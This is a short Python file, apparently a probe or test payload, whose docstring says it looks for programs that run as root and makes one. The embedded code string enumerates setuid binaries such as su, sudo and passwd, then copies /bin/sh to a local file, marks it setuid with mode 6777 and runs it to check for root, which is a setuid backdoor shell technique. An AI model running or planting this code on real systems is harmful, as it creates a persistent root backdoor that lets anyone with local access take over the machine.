"""Looks for programs that run as root, and makes one."""

PROGRAM = r"""
import os
import shutil
import stat
import subprocess
import sys

def run(asked):
    reached = []
    for name in ("su", "mount", "sudo", "passwd", "newgrp", "chsh"):
        path = "/usr/bin/" + name
        if os.path.exists(path) and os.stat(path).st_mode & stat.S_ISUID:
            out = subprocess.run([path, "--version"], capture_output=True)
            status = [line for line in open("/proc/self/status")] if os.access("/proc/self/status", os.R_OK) else []
            reached += [line for line in status if line.startswith("Uid:\t0")]
    shutil.copy("/bin/sh", "shell")
    os.chmod("shell", 0o6777)
    out = subprocess.run(["./shell", "-p", "-c", "id -u"], capture_output=True, text=True)
    if out.stdout.strip() == "0" or os.geteuid() == 0:
        reached.append("root")
    return reached
"""
